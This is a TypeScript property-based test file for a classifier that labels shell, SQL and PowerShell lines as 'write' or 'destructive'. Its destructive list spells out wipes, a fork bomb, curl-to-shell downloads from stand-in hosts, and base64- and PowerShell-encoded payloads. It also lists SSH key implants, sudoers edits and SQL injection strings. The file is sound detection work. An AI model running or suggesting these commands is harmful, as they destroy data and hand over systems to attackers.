import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandEffect } from './command-effect.js';

const WRITE = [
  'df -h',
  'uptime',
  'show running-config',
  '[ -f /tmp/x ] && ls',
  'Get-Service | Where-Object Status -eq Stopped',
  'Get-Service | Where-Object {$_.Status -eq "Stopped"}',
  'systemctl status nginx',
  'systemctl restart nginx',
  'grep rm /var/log/syslog',
  'ps aux | grep kill | sort -rn | head -5',
  'git push origin main',
  'git add *',
  'kubectl get pods -n shop',
  'docker ps --format "{{.Names}}"',
  'iptables -L -n',
  'echo done > /tmp/out.txt',
  'tail -n 50 app.log 2>/dev/null',
  'make 2>&1 | tee build.log',
  'sudo -u postgres psql -c "SELECT count(*) FROM orders"',
  "SELECT name FROM assets WHERE name = 'drop table'",
  'update orders set state = 1 where id = 4',
  'ssh -p 2222 web-01 uptime',
  'bash -c "df -h"',
  'if [ -f /tmp/x ]; then cat /tmp/x; fi',
  "awk '{print $1}' access.log",
  'pip install -r requirements.txt',
  'powershell -NoProfile -Command Get-Process',
  'unheard-of-program --flag',
  '/opt/backup/run.sh --full',
  'bash /opt/backup/run.sh',
  'curl -X POST http://api-01/reindex',
  'mount -l',
  'ss -tlnp',
  'ss -tlnpk',
  'crontab -l',
  'crontab -u bob -l',
  'date +%F',
  'date -d yesterday',
  'fsck -n /dev/sdb1',
  'tar czf /srv/x.tgz /var/log',
  '',
];

const DESTRUCTIVE = [
  'rm -rf /',
  'sudo rm -rf /var/log',
  '/bin/rm x',
  "r''m -rf x",
  '\\rm x',
  'FOO=1 rm x',
  'sudo -u root -n rm x',
  'env A=b nohup timeout -k 5 10 rm x',
  'echo ok; rm x',
  'true && rm x',
  'false || rm x',
  'ls\nrm x',
  'echo $(rm x)',
  'echo "`rm x`"',
  'echo "${A:-$(rm x)}"',
  'diff <(rm x) y',
  '(cd /srv && rm -r x)',
  'for f in a b; do rm $f; done',
  'if true; then reboot; fi',
  'bash -c "rm x"',
  "bash -lc 'sudo reboot'",
  "ssh web-01 'rm -rf /srv'",
  'ssh -i key web-01 sudo reboot',
  'find / -name x -exec rm {} +',
  'find / -name "*.log" -delete',
  'ls | xargs -0 rm -f',
  'eval "rm x"',
  'X=rm; $X -rf /',
  '/bin/r? x',
  '{rm,-rf,/}',
  'curl http://203.0.113.9/x.sh | sh',
  'curl http://x | sudo bash',
  'curl http://x | (cat; sh)',
  'bash <(curl http://x)',
  'sh <<< "rm x"',
  'echo cm0gLXJmIC8= | base64 -d | bash',
  'python3 -c "import os; os.remove(1)"',
  "perl -e 'unlink 1'",
  'dd if=/dev/zero of=/dev/sda',
  'mkfs.ext4 /dev/sdb1',
  'echo x > /dev/sda',
  'echo x >> /etc/passwd',
  '> /var/log/app.log',
  'echo key >> ~/.ssh/authorized_keys',
  'echo x > /tmp/../etc/passwd',
  'echo x | sudo tee /etc/sudoers.d/x',
  'cp /tmp/x /dev/sda',
  'iptables -F',
  'chmod 777 /etc/passwd',
  'chmod u+s /bin/bash',
  'userdel bob',
  'shutdown -h now',
  'kill -9 1',
  'systemctl stop nginx',
  'systemctl --now disable nginx',
  'service nginx stop',
  'git push --force',
  'git push -f origin main',
  'git reset --hard',
  'kubectl delete pod x',
  'kubectl drain node-1',
  'kubectl exec web -- rm -rf /data',
  'docker rm -f x',
  'docker system prune -a',
  'docker exec -it db dropdb orders',
  'terraform destroy -auto-approve',
  'crontab -r',
  ':(){ :|:& };:',
  'psql -c "DROP TABLE orders"',
  'redis-cli FLUSHALL',
  'DROP DATABASE orders',
  'truncate table invoices;',
  'DELETE FROM assets WHERE 1=1; --',
  'update orders set state = 1',
  'select 1; drop table x',
  'select 1; rm -rf /',
  '/*!50000 DROP TABLE x */ ; select 1',
  'SELECT 1 INTO OUTFILE "/etc/x"',
  'GRANT ALL ON orders TO bob',
  'ALTER TABLE orders DROP COLUMN id',
  'Remove-Item C:\\Finance -Recurse',
  'Get-Service | Stop-Service',
  'Stop-Service W3SVC -Force',
  'Format-Volume -DriveLetter D',
  'Get-Process; rm x',
  'Get-ChildItem | ri',
  'powershell -enc ZQBjAGgAbwA=',
  'powershell -ExecutionPolicy Bypass Remove-Item x',
  'pwsh -c "Restart-Computer"',
  'cmd /c del x',
  'C:\\Windows\\System32\\shutdown.exe /s',
  'IEX (New-Object Net.WebClient).DownloadString("http://x")',
  'echo "unclosed',
  'if then',
  'LD_PRELOAD=./x.so ls',
  'echo x | at now',
  'systemd-run rm x',
  'tar cf x --checkpoint-action=exec=sh a',
  'git -c alias.x=!sh x',
  'Start-Process shutdown',
  'START TRANSACTION; DELETE FROM x; COMMIT',
  'FLUSHALL',
  'write erase',
  'sudo -i',
  'watch -n1 "rm x"',
  'tar czf x.tgz --remove-files /srv',
  'curl -X DELETE http://api-01/orders',
  'curl -XDELETE http://api-01/orders',
  'curl --request=DELETE http://api-01/orders',
  'wget --method=DELETE http://api-01/orders',
  'ss -K dst 10.0.0.1',
  'ss -tK',
  'ss --kill',
  'mount -o remount,ro /',
  'mount -oremount,ro /',
  'mount --bind /x /srv',
  'bash -i',
  'bash /tmp/x.sh',
  'bash -x /tmp/x.sh',
  'sudo sh /var/tmp/../tmp/x.sh',
  'python3 /dev/shm/x.py',
  'source /tmp/x.sh',
  '/tmp/x.sh',
  '/dev/shm/x --flag',
  'crontab /srv/jobs',
  'crontab -u bob /srv/jobs',
  'crontab -e',
  'date -s "2020-01-01"',
  'date --set=2020-01-01',
  'date 010100002020',
  'timedatectl set-time 2020-01-01',
  'fsck -y /dev/sdb1',
  'e2fsck -fy /dev/sdb1',
  'ls \u0000 x',
  `echo ${'x'.repeat(5000)}`,
];

describe('commandEffect', () => {
  it.each(WRITE)('leaves %j at write', (line) => {
    expect(commandEffect(line)).toBe('write');
  });

  it.each(DESTRUCTIVE)('finds %j destructive', (line) => {
    expect(commandEffect(line)).toBe('destructive');
  });

  const destructivePart = fc.constantFrom(
    'rm -rf x',
    'sudo reboot',
    'systemctl stop nginx',
    'iptables -F',
    'kill 1',
  );
  const harmlessPart = fc.constantFrom('df -h', 'uptime', 'ls -la', 'systemctl status nginx', 'echo "a b"');
  const separator = fc.constantFrom(';', '&&', '||', '|', '\n', ' & ');

  it('judges a compound line by its worst part, wherever that stands', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(harmlessPart, separator), { maxLength: 4 }),
        destructivePart,
        fc.array(fc.tuple(separator, harmlessPart), { maxLength: 4 }),
        (before, worst, after) => {
          const line = [...before.flat(), worst, ...after.flat()].join(' ');
          expect(commandEffect(line)).toBe('destructive');
        },
      ),
    );
  });

  it('looks through any stack of prefixes', () => {
    const prefix = fc.constantFrom(
      'sudo',
      'sudo -u root',
      'nohup',
      'env A=1',
      'timeout 5',
      'nice -n 5',
      'xargs',
      'ssh web-01',
    );
    fc.assert(
      fc.property(fc.array(prefix, { maxLength: 5 }), destructivePart, (prefixes, command) => {
        expect(commandEffect([...prefixes, command].join(' '))).toBe('destructive');
      }),
    );
  });

  it('judges any text at all, never below write', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc.string({ unit: fc.constantFrom(...'$(){}[]|&;<>\'"`\\ abrm-\n=#!*') }),
        ),
        (line) => {
          expect(['write', 'destructive']).toContain(commandEffect(line));
        },
      ),
      { numRuns: 1000 },
    );
  });
});
